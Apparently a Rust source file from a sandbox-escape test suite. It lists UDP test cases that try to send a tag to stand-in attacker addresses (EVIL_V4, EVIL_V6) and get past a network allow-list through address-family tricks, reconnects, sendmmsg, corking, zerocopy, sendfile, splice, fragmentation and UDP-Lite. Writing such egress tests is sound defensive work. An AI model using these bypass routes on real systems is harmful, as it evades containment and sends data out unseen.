//! UDP by every call that sends.

use std::net::{Ipv4Addr, SocketAddr};
use std::os::fd::OwnedFd;

use crate::escape::case::{Case, Refused, Targets};
use crate::escape::sys::{self, Message};
use crate::harness::network::{EVIL_V4, EVIL_V6};

type Result = std::result::Result<(), Refused>;

pub(super) const CASES: &[Case] = &[
    Case::new(
        "udp-sendto-v4",
        &["G08"],
        "UDP `sendto`, IPv4.",
        |targets| sendto(libc::AF_INET, &sys::address(targets.at(EVIL_V4)), targets),
    ),
    Case::new(
        "udp-sendto-v6",
        &["G08"],
        "UDP `sendto`, IPv6.",
        |targets| sendto(libc::AF_INET6, &sys::address(targets.at(EVIL_V6)), targets),
    ),
    Case::new(
        "udp-connect-v4",
        &["G08"],
        "UDP `connect`, then `send`.",
        |targets| {
            let socket = udp(libc::AF_INET)?;
            sys::connect(&socket, &sys::address(targets.at(EVIL_V4)))?;
            sys::send(&socket, targets.tag().as_bytes(), 0).map(drop)
        },
    ),
    Case::new(
        "udp-v4-mapped",
        &["G03"],
        "UDP `sendto` to `::ffff:a.b.c.d` on an IPv6 socket.",
        |targets| sendto(libc::AF_INET6, &sys::address(mapped(targets)), targets),
    ),
    Case::new(
        "udp-v4-family-on-v6-socket",
        &["G03"],
        "UDP `sendto` with an AF_INET address on an IPv6 socket.",
        |targets| sendto(libc::AF_INET6, &sys::address(targets.at(EVIL_V4)), targets),
    ),
    Case::new(
        "udp-v4-family-connect-on-v6-socket",
        &["G03"],
        "UDP `connect` with an AF_INET address on an IPv6 socket, then `send`.",
        |targets| {
            let socket = udp(libc::AF_INET6)?;
            sys::connect(&socket, &sys::address(targets.at(EVIL_V4)))?;
            sys::send(&socket, targets.tag().as_bytes(), 0).map(drop)
        },
    ),
    Case::new(
        "udp-unspec-family",
        &["G03"],
        "UDP `sendto` on an IPv4 socket with an address whose family is AF_UNSPEC.",
        |targets| {
            sendto(
                libc::AF_INET,
                &sys::address_as(0, targets.at(EVIL_V4)),
                targets,
            )
        },
    ),
    Case::new(
        "udp-connect-allowed-sendto-other",
        &["G03"],
        "UDP socket connected to the allowed host, then `sendto` another.",
        |targets| {
            let socket = udp(libc::AF_INET)?;
            sys::connect(&socket, &sys::address(super::good_v4()))?;
            let to = sys::address(targets.at(EVIL_V4));
            sys::sendto(&socket, targets.tag().as_bytes(), 0, &to).map(drop)
        },
    ),
    Case::new(
        "udp-reconnect-after-unspec",
        &["G03"],
        "UDP connect to the allowed host, dissolve by AF_UNSPEC, connect elsewhere, send.",
        |targets| {
            let socket = udp(libc::AF_INET)?;
            sys::connect(&socket, &sys::address(super::good_v4()))?;
            sys::connect(&socket, &[0; 16])?;
            sys::connect(&socket, &sys::address(targets.at(EVIL_V4)))?;
            sys::send(&socket, targets.tag().as_bytes(), 0).map(drop)
        },
    ),
    Case::new(
        "udp-sendmsg-v4",
        &["P35"],
        "UDP `sendmsg`, IPv4.",
        |targets| message(libc::AF_INET, targets.at(EVIL_V4), &[], 0, targets),
    ),
    Case::new(
        "udp-sendmsg-v6",
        &["P35"],
        "UDP `sendmsg`, IPv6.",
        |targets| message(libc::AF_INET6, targets.at(EVIL_V6), &[], 0, targets),
    ),
    Case::new(
        "udp-sendmmsg-second",
        &["G08"],
        "UDP `sendmmsg`: the first message goes to the allowed host, the second elsewhere.",
        |targets| {
            let socket = udp(libc::AF_INET)?;
            let (good, evil) = (
                sys::address(super::good_v4()),
                sys::address(targets.at(EVIL_V4)),
            );
            let tag = targets.tag();
            let to = |address, data| Message {
                data,
                address,
                control: &[],
            };
            let messages = [to(&good[..], &b"hello"[..]), to(&evil[..], tag.as_bytes())];
            let sent = sys::sendmmsg(&socket, &messages)?;
            // The error of a later message is the error of the next call.
            let rest = messages.get(sent..).unwrap_or_default();
            if rest.is_empty() {
                return Ok(());
            }
            sys::sendmmsg(&socket, rest).map(drop)
        },
    ),
    Case::new(
        "udp-gso",
        &["G08"],
        "UDP_SEGMENT: many datagrams by one call.",
        |targets| {
            let socket = udp(libc::AF_INET)?;
            sys::set_int(&socket, libc::SOL_UDP, libc::UDP_SEGMENT, 64)?;
            let mut data = targets.tag().into_bytes();
            data.resize(64 * 8, b'.');
            let to = sys::address(targets.at(EVIL_V4));
            sys::sendto(&socket, &data, 0, &to).map(drop)
        },
    ),
    Case::new(
        "udp-gso-cmsg",
        &["G08"],
        "UDP_SEGMENT as ancillary data, IPv6.",
        |targets| {
            let size = sys::ancillary(libc::SOL_UDP, libc::UDP_SEGMENT, &64_u16.to_ne_bytes());
            message(libc::AF_INET6, targets.at(EVIL_V6), &size, 0, targets)
        },
    ),
    Case::new(
        "udp-zerocopy",
        &["G08"],
        "MSG_ZEROCOPY: the kernel sends the program's own pages.",
        |targets| {
            let socket = udp(libc::AF_INET)?;
            sys::set_int(&socket, libc::SOL_SOCKET, libc::SO_ZEROCOPY, 1)?;
            let to = sys::address(targets.at(EVIL_V4));
            sys::sendto(&socket, targets.tag().as_bytes(), libc::MSG_ZEROCOPY, &to).map(drop)
        },
    ),
    Case::new(
        "udp-corked",
        &["G08"],
        "MSG_MORE: a datagram begun to the attacker, finished with the allowed address.",
        |targets| {
            let socket = udp(libc::AF_INET)?;
            let (good, evil) = (
                sys::address(super::good_v4()),
                sys::address(targets.at(EVIL_V4)),
            );
            let tag = targets.tag();
            sys::sendto(&socket, tag.as_bytes(), libc::MSG_MORE, &evil)?;
            sys::sendto(&socket, tag.as_bytes(), 0, &good).map(drop)
        },
    ),
    Case::new(
        "udp-sendfile",
        &["G08"],
        "`sendfile` into a connected UDP socket.",
        |targets| {
            let file = sys::memory_file(targets.tag().as_bytes())?;
            let socket = udp(libc::AF_INET)?;
            sys::connect(&socket, &sys::address(targets.at(EVIL_V4)))?;
            sys::sendfile(&socket, &file, targets.tag().len())
        },
    ),
    Case::new(
        "udp-splice",
        &["G08"],
        "`splice` from a pipe into a connected UDP socket.",
        |targets| {
            let socket = udp(libc::AF_INET)?;
            sys::connect(&socket, &sys::address(targets.at(EVIL_V4)))?;
            sys::splice(&socket, targets.tag().as_bytes())
        },
    ),
    Case::new(
        "udp-fragmented",
        &["P10"],
        "A datagram that the kernel sends in fragments.",
        |targets| {
            let mut data = targets.tag().into_bytes();
            data.resize(5000, b'.');
            let to = sys::address(targets.at(EVIL_V4));
            sys::sendto(&udp(libc::AF_INET)?, &data, 0, &to).map(drop)
        },
    ),
    Case::new(
        "udp-fragmented-v6",
        &["P10"],
        "The same, IPv6: a fragment header in front of UDP.",
        |targets| {
            let mut data = targets.tag().into_bytes();
            data.resize(5000, b'.');
            let to = sys::address(targets.at(EVIL_V6));
            sys::sendto(&udp(libc::AF_INET6)?, &data, 0, &to).map(drop)
        },
    ),
    Case::new(
        "udp-empty",
        &["G08"],
        "A datagram without data: its port is the message.",
        |targets| {
            let to = sys::address(targets.at(EVIL_V4));
            sys::sendto(&udp(libc::AF_INET)?, &[], 0, &to).map(drop)
        },
    ),
    Case::new("udplite-v4", &["G09"], "UDP-Lite, IPv4.", |targets| {
        let socket = sys::socket(libc::AF_INET, libc::SOCK_DGRAM, libc::IPPROTO_UDPLITE)?;
        let to = sys::address(targets.at(EVIL_V4));
        sys::sendto(&socket, targets.tag().as_bytes(), 0, &to).map(drop)
    }),
    Case::new("udplite-v6", &["G09"], "UDP-Lite, IPv6.", |targets| {
        let socket = sys::socket(libc::AF_INET6, libc::SOCK_DGRAM, libc::IPPROTO_UDPLITE)?;
        let to = sys::address(targets.at(EVIL_V6));
        sys::sendto(&socket, targets.tag().as_bytes(), 0, &to).map(drop)
    }),
];

fn udp(family: i32) -> std::result::Result<OwnedFd, Refused> {
    sys::socket(family, libc::SOCK_DGRAM, 0)
}

fn mapped(targets: &Targets) -> SocketAddr {
    let address: Ipv4Addr = EVIL_V4;
    targets.at(address.to_ipv6_mapped())
}

fn sendto(family: i32, to: &[u8], targets: &Targets) -> Result {
    sys::sendto(&udp(family)?, targets.tag().as_bytes(), 0, to).map(drop)
}

fn message(family: i32, to: SocketAddr, control: &[u8], flags: i32, targets: &Targets) -> Result {
    let (tag, address) = (targets.tag(), sys::address(to));
    let message = Message {
        data: tag.as_bytes(),
        address: &address,
        control,
    };
    sys::sendmsg(&udp(family)?, &message, flags).map(drop)
}
